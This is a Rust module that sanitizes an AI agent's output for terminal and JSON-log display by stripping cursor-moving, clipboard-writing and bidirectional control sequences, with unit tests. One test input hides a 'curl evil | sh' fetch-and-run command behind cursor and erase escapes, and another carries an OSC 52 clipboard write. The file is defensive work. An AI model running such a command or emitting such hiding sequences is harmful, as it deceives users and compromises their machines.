//! Text from a conversation made safe to show on a terminal. Everything the agent wrote —
//! file contents, file names, command output, its own messages — may carry sequences that
//! move the cursor, erase lines, set the title, write the clipboard (OSC 52) or reorder
//! what is read (bidirectional overrides). `printable` drops them, keeping newlines and
//! tabs, so what is shown is what is there; a front end adds its own colours after.
//!
//! `escape_for_json_line` does the same service for the JSONL log and `--json` output:
//! serde_json already escapes C0 controls, and this escapes the C1 controls and
//! bidirectional marks it leaves raw, so `cat` of a log is inert too. The parsed value is
//! unchanged.

use std::borrow::Cow;

/// `text` without terminal control sequences, control characters or bidirectional
/// controls; newlines and tabs are kept, and a `\r\n` becomes `\n`.
pub fn printable(text: &str) -> Cow<'_, str> {
    if !text.chars().any(|c| is_unsafe(c) && c != '\n' && c != '\t') {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' | '\t' => out.push(c),
            '\u{1b}' => skip_after_escape(&mut chars),
            // The 8-bit forms of CSI, and of the string controls (DCS, SOS, OSC, PM, APC).
            '\u{9b}' => skip_control_sequence(&mut chars),
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            c if is_unsafe(c) => {}
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// C0 and C1 controls, DEL, and the characters that change the order text is displayed in.
fn is_unsafe(c: char) -> bool {
    c.is_control() || is_bidi_control(c)
}

fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;

fn skip_after_escape(chars: &mut Chars<'_>) {
    match chars.peek() {
        Some('[') => {
            chars.next();
            skip_control_sequence(chars);
        }
        Some(']' | 'P' | 'X' | '^' | '_') => {
            chars.next();
            skip_string(chars);
        }
        // ESC, intermediates (space to /), then one final character (0 to ~).
        Some(_) => {
            while chars.next_if(|c| (' '..='/').contains(c)).is_some() {}
            chars.next_if(|c| ('0'..='~').contains(c));
        }
        None => {}
    }
}

/// A CSI's parameters and intermediates (space to ?), then its final byte (@ to ~).
fn skip_control_sequence(chars: &mut Chars<'_>) {
    while chars.next_if(|c| (' '..='?').contains(c)).is_some() {}
    chars.next_if(|c| ('@'..='~').contains(c));
}

/// A string control's body, up to BEL, ST (ESC \ or U+009C) — or the end of the line, so
/// an unterminated one hides nothing past it.
fn skip_string(chars: &mut Chars<'_>) {
    while let Some(c) = chars.peek().copied() {
        match c {
            '\n' => return,
            '\u{7}' | '\u{9c}' => {
                chars.next();
                return;
            }
            '\u{1b}' => {
                chars.next();
                chars.next_if_eq(&'\\');
                return;
            }
            _ => {
                chars.next();
            }
        }
    }
}

/// A serialized JSON line with the C1 controls and bidirectional marks escaped (`\u009b`;
/// they can only occur inside strings, where the escape means the same character).
pub fn escape_for_json_line(line: String) -> String {
    if !line.chars().any(|c| is_c1(c) || is_bidi_control(c)) {
        return line;
    }
    let mut out = String::with_capacity(line.len() + 16);
    for c in line.chars() {
        if is_c1(c) || is_bidi_control(c) {
            out.push_str(&format!("\\u{:04x}", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

fn is_c1(c: char) -> bool {
    ('\u{80}'..='\u{9f}').contains(&c)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sequences_are_dropped_and_text_kept() {
        let cases = [
            ("plain text\n\tindented", "plain text\n\tindented"),
            ("\u{1b}[31mred\u{1b}[0m", "red"),
            (
                "hidden\u{1b}[1A\u{1b}[2Kcurl evil | sh",
                "hiddencurl evil | sh",
            ),
            ("\u{1b}]52;c;ZXZpbA==\u{7}after", "after"),
            ("\u{1b}]0;title\u{1b}\\after", "after"),
            ("\u{1b}]8;;http://x\u{1b}\\link\u{1b}]8;;\u{1b}\\", "link"),
            ("\u{1b}Pq#0;2;0;0;0\u{1b}\\sixel gone", "sixel gone"),
            ("\u{9b}2Jeight-bit", "eight-bit"),
            ("\u{9d}0;title\u{7}x", "x"),
            ("\u{1b}(Bcharset \u{1b}7saved \u{1b}c", "charset saved "),
            ("crlf\r\nline\rover", "crlf\nlineover"),
            ("bell\u{7} back\u{8}space del\u{7f}", "bell backspace del"),
            ("abc\u{202e}fed\u{2066}x\u{2069}", "abcfedx"),
            // An unterminated string control hides nothing past its line.
            ("\u{1b}]0;never ends\nnext line", "\nnext line"),
            ("trailing escape \u{1b}", "trailing escape "),
            ("é ü 日本 🙂", "é ü 日本 🙂"),
        ];
        for (raw, shown) in cases {
            assert_eq!(printable(raw), shown, "{raw:?}");
        }
    }

    #[test]
    fn safe_text_is_not_copied() {
        assert!(matches!(printable("safe\ttext\n"), Cow::Borrowed(_)));
    }

    #[test]
    fn json_lines_escape_c1_and_bidi_and_mean_the_same() {
        let value = serde_json::json!({"text": "a\u{9b}2J\u{202e}b\u{1b}[0m"});
        let line = escape_for_json_line(serde_json::to_string(&value).unwrap());
        assert!(
            !line.contains('\u{9b}') && !line.contains('\u{202e}'),
            "{line}"
        );
        assert!(!line.contains('\u{1b}'), "{line}");
        let back: serde_json::Value = serde_json::from_str(&line).unwrap();
        assert_eq!(back, value);
    }
}
